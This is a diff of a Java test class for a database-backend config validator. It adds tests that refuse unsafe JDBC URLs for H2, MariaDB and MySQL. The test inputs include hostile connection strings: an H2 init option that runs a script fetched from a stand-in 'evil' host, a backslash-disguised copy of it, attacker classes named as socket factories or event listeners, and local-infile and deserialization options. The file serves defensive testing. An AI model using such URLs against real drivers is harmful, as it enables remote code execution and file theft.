@@ -3,12 +3,14 @@ package dev.pintle.backend.jdbc;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import dev.pintle.spi.SetupScripts;
 import dev.pintle.spi.Store;
 import dev.pintle.spi.StoreException;
 import java.net.URL;
 import java.net.URLClassLoader;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.Optional;
 import org.assertj.core.api.AbstractThrowableAssert;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -34,7 +36,8 @@ final class JdbcConfigTest {
   @Test
   void anUnsupportedDatabaseIsRefusedWithThoseThatAre() {
     refused("jdbc:oracle:thin:scott/tiger@h?password=" + SECRET)
-        .hasMessageContaining("jdbc:postgresql: or jdbc:sqlite:")
+        .hasMessageContaining(
+            "jdbc:postgresql: or jdbc:mariadb: or jdbc:mysql: or jdbc:sqlite: or jdbc:h2:")
         .hasMessageNotContaining(SECRET);
   }
 
@@ -63,6 +66,86 @@ final class JdbcConfigTest {
         .isInstanceOf(StoreException.Unavailable.class);
   }
 
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "jdbc:mariadb://h/d?allowLocalInfile=true",
+        "jdbc:mariadb://h/d?socketFactory=evil.Code",
+        "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://evil'",
+        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
+        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Code'"
+      })
+  void optionsThatLoadCodeOrTouchFilesAreRefusedOnEveryDatabase(String uri) {
+    refused(uri).hasMessageContaining("jdbc.allow-unsafe-options");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "jdbc:mariadb://h/d?useAffectedRows=true",
+        "jdbc:mariadb://h/d?transactionReplay=true",
+        "jdbc:mariadb://h/d?TRANSACTIONREPLAY=true",
+        "jdbc:mariadb://h/d?autoReconnect=true",
+        "jdbc:mariadb://h/d?allowMultiQueries=true",
+        "jdbc:h2:mem:x;LOCK_MODE=0",
+        "jdbc:h2:./x;AUTO_SERVER=TRUE",
+        "jdbc:h2:./x;FILE_LOCK=NO",
+        "jdbc:h2:mem:x;MODE=MySQL"
+      })
+  void optionsThatBreakTheContractAreRefused(String uri) {
+    refused(uri).hasMessageContaining("is refused:").hasMessageContaining("leave it out");
+  }
+
+  /** H2 would take the backslash out, and find the option that is refused. */
+  @Test
+  void anOptionInDisguiseIsRefused() {
+    refused("jdbc:h2:mem:x;IN\\IT=RUNSCRIPT FROM 'http://evil'").hasMessageContaining("backslash");
+  }
+
+  @Test
+  void anOptionIsOffOnlyIfTheUrlAndTheSettingsSaySo() {
+    refused("jdbc:mariadb://h/d?allowLocalInfile=true", "jdbc.allowLocalInfile", "false")
+        .hasMessageContaining("allowLocalInfile");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "jdbc:mariadb:replication://a,b/d",
+        "jdbc:mariadb:sequential://a/d",
+        "jdbc:mariadb://a,b/d",
+        "jdbc:mariadb://address=(host=a)(autoDeserialize=true)/d",
+        "jdbc:mariadb://h",
+        "jdbc:mariadb://h/"
+      })
+  void oneServerAndOneDatabaseAreToBeNamed(String uri) {
+    refused(uri).hasMessageContaining("jdbc:mariadb://host:port/database");
+  }
+
+  /** It is the user's to add, here as anywhere. */
+  @Test
+  void theDriverOfMySqlIsNamedWhereItIsMissing() {
+    refused("jdbc:mysql://h/d")
+        .hasMessageContaining("com.mysql.cj.jdbc.Driver")
+        .hasMessageContaining("com.mysql:mysql-connector-j");
+  }
+
+  @Test
+  void scriptsAreThereForEveryDatabaseThatCanBeOpened() {
+    SetupScripts scripts = new JdbcStoreProvider().setupScripts().orElseThrow();
+    assertThat(scripts.dialects())
+        .containsExactlyInAnyOrder("h2", "mariadb", "mysql", "postgresql", "sqlite");
+    assertThat(scripts.script("mysql", Optional.empty()))
+        .hasSize(2)
+        .allMatch(sql -> sql.endsWith("COLLATE utf8mb4_0900_bin"));
+    assertThatThrownBy(() -> scripts.script("oracle", Optional.empty()))
+        .isInstanceOf(StoreException.InvalidConfig.class)
+        .hasMessageContaining("h2, mariadb, mysql, postgresql, sqlite");
+    assertThatThrownBy(() -> scripts.script("h2", Optional.of("V7")))
+        .isInstanceOf(StoreException.InvalidConfig.class)
+        .hasMessageContaining("V7");
+  }
+
   @Test
   void readsFromStandbysAreRefused() {
     refused("jdbc:postgresql://a,b/d?loadBalanceHosts=true").hasMessageContaining("lag behind");
@@ -85,7 +168,7 @@ final class JdbcConfigTest {
     refused(uri(), "jdbc.init-catalog-tables", "false")
         .hasMessageContaining("CREATE TABLE iceberg_tables")
         .hasMessageContaining("CREATE TABLE iceberg_namespace_properties");
-    assertThat(Postgres.query(uri(), "SELECT name FROM sqlite_schema")).isEmpty();
+    assertThat(Sql.query(uri(), "SELECT name FROM sqlite_schema")).isEmpty();
   }
 
   @Test
